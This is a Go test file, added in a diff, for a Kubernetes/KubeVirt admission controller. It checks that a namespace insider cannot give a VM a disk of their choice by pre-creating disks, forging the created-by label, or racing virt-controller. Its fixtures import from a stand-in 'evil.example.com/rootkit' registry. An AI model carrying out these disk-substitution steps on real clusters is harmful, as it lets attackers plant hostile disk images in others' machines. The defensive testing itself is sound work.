@@ -1,0 +1,301 @@
+package attacks_test
+
+import (
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+
+	rbacv1 "k8s.io/api/rbac/v1"
+
+	"github.com/vmstencil/stencil/test/controlplane"
+	"github.com/vmstencil/stencil/test/gen"
+	"github.com/vmstencil/stencil/test/harness"
+)
+
+const kubevirtController = "system:serviceaccount:kubevirt:kubevirt-controller"
+
+// storage is a user with the role edit in a namespace, and what CDI adds to it.
+func storage(t *testing.T, name, space string) *controlplane.User {
+	t.Helper()
+	user, err := gen.User(t.Context(), stencil.Plane, name, gen.Role(space, "edit"), gen.UsesTemplates("kiosks"),
+		gen.Permits(space, rbacv1.PolicyRule{APIGroups: []string{"cdi.kubevirt.io"}, Resources: []string{"*"}, Verbs: []string{"*"}}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return user
+}
+
+// bench is a namespace in which disks are made.
+type bench struct {
+	space string
+	// insider makes disks and VMs. cdi acts as CDI does, which this plane does not have.
+	insider, cdi *controlplane.User
+}
+
+func newBench(t *testing.T, name, space string) bench {
+	t.Helper()
+	cdi, err := gen.User(t.Context(), stencil.Plane, "system:serviceaccount:cdi:cdi-sa", gen.Permits(space,
+		rbacv1.PolicyRule{APIGroups: []string{"cdi.kubevirt.io"}, Resources: []string{"*"}, Verbs: []string{"*"}},
+		rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"persistentvolumeclaims"}, Verbs: []string{"*"}}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return bench{space: space, insider: storage(t, name, space), cdi: cdi}
+}
+
+func (b bench) kubectl(t *testing.T, as *controlplane.User, stdin string, arguments ...string) controlplane.Result {
+	t.Helper()
+	return harness.Kubectl(t, stencil.Plane, as, stdin, harness.In(b.space, arguments)...)
+}
+
+func (b bench) must(t *testing.T, as *controlplane.User, stdin string, arguments ...string) string {
+	t.Helper()
+	return strings.TrimSpace(harness.Must(t, stencil.Plane, as, stdin, harness.In(b.space, arguments)...).Stdout)
+}
+
+// create creates a VM that is to run.
+func (b bench) create(t *testing.T, name string) controlplane.Result {
+	t.Helper()
+	return b.kubectl(t, b.insider, machine(name, "kiosks/stand", nil, "spec: {runStrategy: Always}\n"), "create", "-f", "-")
+}
+
+func labelled(label string) string {
+	if label == "" {
+		return "{}"
+	}
+	return fmt.Sprintf("{%s}", label)
+}
+
+// volume is a manifest of a DataVolume.
+func volume(name, label string) string {
+	return fmt.Sprintf("apiVersion: cdi.kubevirt.io/v1beta1\nkind: DataVolume\nmetadata: {name: %s, labels: %s}\n"+
+		"spec: {source: {registry: {url: \"docker://evil.example.com/rootkit\"}}, storage: {resources: {requests: {storage: 1Gi}}}}\n", name, labelled(label))
+}
+
+// claim is a manifest of a PersistentVolumeClaim.
+func claim(name, label string) string {
+	return fmt.Sprintf("apiVersion: v1\nkind: PersistentVolumeClaim\nmetadata: {name: %s, labels: %s}\n"+
+		"spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}\n", name, labelled(label))
+}
+
+// populate does what CDI does for a DataVolume: it creates the claim, with the labels of the DataVolume, unless there is one, which it
+// takes over as it is.
+func (b bench) populate(t *testing.T, name string) {
+	t.Helper()
+	harness.Eventually(t, "DataVolume "+name+" exists", func() error {
+		if out := b.kubectl(t, nil, "", "get", "dv", name); out.Code != 0 {
+			return errors.New(out.Stderr)
+		}
+		return nil
+	})
+	if b.kubectl(t, nil, "", "get", "pvc", name).Code != 0 {
+		label := ""
+		if created := b.must(t, nil, "", "get", "dv", name, "-o", `jsonpath={.metadata.labels.kubevirt\.io/created-by}`); created != "" {
+			label = "kubevirt.io/created-by: " + created
+		}
+		b.must(t, b.cdi, claim(name, label), "create", "-f", "-")
+	}
+	b.must(t, b.cdi, "", "patch", "dv", name, "--type=merge", "--subresource=status", "-p", `{"status":{"phase":"Succeeded"}}`)
+}
+
+// starts waits for the instance of a VM.
+func (b bench) starts(t *testing.T, name string) {
+	t.Helper()
+	harness.Eventually(t, "VM "+name+" starts", func() error {
+		if out := b.kubectl(t, nil, "", "get", "vmi", name); out.Code != 0 {
+			return errors.New(out.Stderr + b.kubectl(t, nil, "", "get", "events,dv,pvc", "-o", "wide").Stdout)
+		}
+		return nil
+	})
+}
+
+// stays waits until virt-controller has been refused an instance for a reason, and checks that there is none.
+func (b bench) stays(t *testing.T, name, why string) {
+	t.Helper()
+	harness.Eventually(t, "virt-controller reports that VM "+name+" cannot start", func() error {
+		events := b.must(t, nil, "", "get", "events", "--field-selector=involvedObject.kind=VirtualMachine,reason=FailedCreate,involvedObject.name="+name, "-o", "jsonpath={.items[*].message}")
+		if !strings.Contains(events, why) {
+			return errors.New("it reports " + events + b.kubectl(t, nil, "", "get", "events,vmi,dv,pvc").Stdout)
+		}
+		return nil
+	})
+	if out := b.kubectl(t, nil, "", "get", "vmi", name); out.Code == 0 {
+		t.Errorf("it runs: %s", out.Stdout)
+	}
+}
+
+// hold keeps virt-controller from creating DataVolumes until it is released. That is how a user wins the race for the name of a disk.
+func (b bench) hold(t *testing.T) (release func()) {
+	t.Helper()
+	manifest := `
+apiVersion: admissionregistration.k8s.io/v1
+kind: ValidatingAdmissionPolicy
+metadata: {name: hold-SPACE}
+spec:
+  failurePolicy: Fail
+  matchConstraints:
+    namespaceSelector: {matchLabels: {kubernetes.io/metadata.name: SPACE}}
+    resourceRules: [{apiGroups: [cdi.kubevirt.io], apiVersions: [v1beta1], operations: [CREATE], resources: [datavolumes]}]
+  validations: [{expression: "request.userInfo.username != 'USER'", message: "virt-controller is too late"}]
+---
+apiVersion: admissionregistration.k8s.io/v1
+kind: ValidatingAdmissionPolicyBinding
+metadata: {name: hold-SPACE}
+spec: {policyName: hold-SPACE, validationActions: [Deny]}
+`
+	manifest = strings.NewReplacer("SPACE", b.space, "USER", kubevirtController).Replace(manifest)
+	b.must(t, nil, manifest, "apply", "-f", "-")
+	released := false
+	release = func() {
+		if !released {
+			released = true
+			b.must(t, nil, manifest, "delete", "-f", "-")
+		}
+	}
+	t.Cleanup(release)
+	harness.Eventually(t, "virt-controller is held", func() error {
+		if out := b.kubectl(t, nil, volume("probe", ""), "create", "--dry-run=server", "--as="+kubevirtController, "-f", "-"); !strings.Contains(out.Stderr, "too late") {
+			return errors.New(out.Stdout + out.Stderr)
+		}
+		return nil
+	})
+	return release
+}
+
+// TestADiskBelongsToItsMachine has a user with the roles edit of Kubernetes, KubeVirt and CDI give a VM the disk of their choice, before
+// KubeVirt creates one.
+func TestADiskBelongsToItsMachine(t *testing.T) {
+	b := newBench(t, "insider-of-disks", namespaces.Of(t))
+	const forged = "kubevirt.io/created-by: 11111111-2222-3333-4444-555555555555"
+	const lacks = `it lacks the label kubevirt.io/created-by, which KubeVirt gives to disks that it creates`
+
+	t.Run("a VM starts with the disk that KubeVirt creates", func(t *testing.T) {
+		if out := b.create(t, "web"); out.Code != 0 {
+			t.Fatal(out.Stderr)
+		}
+		b.populate(t, "web-root")
+		b.starts(t, "web")
+		uid := b.must(t, nil, "", "get", "vm", "web", "-o", "jsonpath={.metadata.uid}")
+		if got := b.must(t, nil, "", "get", "pvc", "web-root", "-o", `jsonpath={.metadata.labels.kubevirt\.io/created-by}`); got != uid {
+			t.Errorf("the claim was created by %q, want %q", got, uid)
+		}
+		if out := b.create(t, "web"); !strings.Contains(out.Stderr, "already exists") {
+			t.Errorf("to create it again answers %s%s", out.Stdout, out.Stderr)
+		}
+	})
+
+	t.Run("the disk before the VM", func(t *testing.T) {
+		for kind, manifest := range map[string]string{"DataVolume": volume("early-root", ""), "PersistentVolumeClaim": claim("early-root", "")} {
+			b.must(t, b.insider, manifest, "create", "-f", "-")
+			refused(t, b.create(t, "early"), `it is not approved in namespace "`+b.space+`": spec.dataVolumeTemplates[0].metadata.name: `+kind+` "early-root" exists already, `+
+				`and the VirtualMachine would start from it: delete it or choose another name, or ask a cluster admin to allow it with existingDisks (approval "vault")`)
+			b.must(t, b.insider, manifest, "delete", "-f", "-")
+		}
+		if out := b.kubectl(t, nil, "", "get", "vm", "early"); out.Code == 0 {
+			t.Errorf("it exists: %s", out.Stdout)
+		}
+	})
+
+	t.Run("a label that says who created it", func(t *testing.T) {
+		cron := "apiVersion: cdi.kubevirt.io/v1beta1\nkind: DataImportCron\nmetadata: {name: cron, labels: %s}\nspec:\n  managedDataSource: early\n  schedule: \"* * * * *\"\n" +
+			"  template: {spec: {source: {registry: {url: \"docker://evil.example.com/rootkit\"}}, storage: {resources: {requests: {storage: 1Gi}}}}}\n"
+		for name, manifest := range map[string]string{
+			"of a DataVolume":                       volume("forged", forged),
+			"of a claim":                            claim("forged", forged),
+			"that CDI copies from a DataImportCron": fmt.Sprintf(cron, labelled(forged)),
+		} {
+			t.Run(name, func(t *testing.T) {
+				refused(t, b.kubectl(t, b.insider, manifest, "create", "-f", "-"), "forbidden", "label kubevirt.io/created-by tells which VirtualMachine a disk was created for")
+			})
+		}
+	})
+
+	t.Run("the label later", func(t *testing.T) {
+		b.must(t, b.insider, volume("later", ""), "create", "-f", "-")
+		b.must(t, b.insider, claim("later", ""), "create", "-f", "-")
+		label := "kubevirt.io/created-by=" + b.must(t, nil, "", "get", "vm", "web", "-o", "jsonpath={.metadata.uid}")
+		for _, args := range [][]string{
+			{"label", "dv", "later", label}, {"label", "pvc", "later", label},
+			{"label", "dv", "web-root", "--overwrite", "kubevirt.io/created-by=other"},
+			{"label", "pvc", "web-root", "kubevirt.io/created-by-"},
+		} {
+			refused(t, b.kubectl(t, b.insider, "", args...), "forbidden", "cannot be added, changed or removed later")
+		}
+		b.must(t, b.insider, "", "label", "pvc", "web-root", "backup=nightly")
+		// What CDI would make of KUBEVIRT_IO_CREATED_BY in the environment of an image that is imported.
+		refused(t, b.kubectl(t, b.cdi, "", "label", "pvc", "later", label), "forbidden", "import an image without KUBEVIRT_IO_CREATED_BY")
+	})
+
+	t.Run("the disk between the VM and KubeVirt", func(t *testing.T) {
+		release := b.hold(t)
+		for name, manifest := range map[string]string{"raced-volume": volume("raced-volume-root", ""), "raced-claim": claim("raced-claim-root", "")} {
+			if out := b.create(t, name); out.Code != 0 {
+				t.Fatal(out.Stderr)
+			}
+			b.must(t, b.insider, manifest, "create", "-f", "-")
+		}
+		release()
+		for _, name := range []string{"raced-volume", "raced-claim"} {
+			b.populate(t, name+"-root")
+			b.stays(t, name, fmt.Sprintf(`spec.volumes[name=root]: claim "%s-root" was not created for VirtualMachine "%s": %s; `+
+				`delete the claim and the DataVolume of this name, so that KubeVirt creates them, or ask a cluster admin to allow it with existingDisks (approval "vault")`, name, name, lacks))
+		}
+		// What the refusal says to do.
+		b.must(t, b.insider, "", "delete", "dv,pvc", "raced-claim-root")
+		b.populate(t, "raced-claim-root")
+		b.starts(t, "raced-claim")
+	})
+
+	t.Run("the disk that a deleted VM has left behind", func(t *testing.T) {
+		if out := b.create(t, "left"); out.Code != 0 {
+			t.Fatal(out.Stderr)
+		}
+		b.populate(t, "left-root")
+		b.starts(t, "left")
+		b.must(t, b.insider, "", "delete", "vm", "left", "--cascade=orphan")
+		refused(t, b.create(t, "left"), `DataVolume "left-root" exists already`)
+	})
+}
+
+// TestExistingDisksAreAllowedWhereEachApprovalSaysSo restores a disk and creates its VM over it.
+func TestExistingDisksAreAllowedWhereEachApprovalSaysSo(t *testing.T) {
+	space, err := stencil.Plane.Namespace(t.Context(), "restores")
+	if err != nil {
+		t.Fatal(err)
+	}
+	b := newBench(t, "restorer", space)
+	approve := func(name, disks string) {
+		t.Helper()
+		b.must(t, nil, "apiVersion: stencil.kubevirt.io/v1alpha1\nkind: TemplateApproval\nmetadata: {name: "+name+"}\n"+
+			"spec: {namespaces: ["+space+"], templates: [{namespace: kiosks, name: stand}], overrides: [spec.runStrategy], existingDisks: "+disks+"}\n", "apply", "-f", "-")
+		t.Cleanup(func() { b.must(t, nil, "", "delete", "templateapproval", name, "--ignore-not-found") })
+	}
+	approve("restores", "{policy: Allow, selector: {matchLabels: {restored: yes-of-course}}}")
+	b.must(t, nil, "", "wait", "namespace/"+space, "--for=jsonpath={.metadata.labels.stencil\\.kubevirt\\.io/governed}=true")
+	b.must(t, b.insider, claim("found-root", ""), "create", "-f", "-")
+	b.must(t, b.insider, claim("restored-root", "restored: yes-of-course"), "create", "-f", "-")
+
+	harness.Eventually(t, "the approval holds", func() error {
+		if out := b.create(t, "found"); !strings.Contains(out.Stderr, `PersistentVolumeClaim "found-root" exists already`) {
+			return errors.New(out.Stdout + out.Stderr)
+		}
+		return nil
+	})
+	if out := b.create(t, "restored"); out.Code != 0 {
+		t.Fatal(out.Stderr)
+	}
+	b.populate(t, "restored-root")
+	b.starts(t, "restored")
+
+	// Another approval of the namespace that does not allow it.
+	approve("strict", "{}")
+	b.must(t, b.insider, claim("second-root", "restored: yes-of-course"), "create", "-f", "-")
+	harness.Eventually(t, "the second approval denies", func() error {
+		out := b.kubectl(t, b.insider, machine("second", "kiosks/stand", nil, ""), "create", "--dry-run=server", "-f", "-")
+		if !strings.Contains(out.Stderr, `PersistentVolumeClaim "second-root" exists already`) || !strings.Contains(out.Stderr, `(approval "strict")`) {
+			return errors.New(out.Stdout + out.Stderr)
+		}
+		return nil
+	})
+}
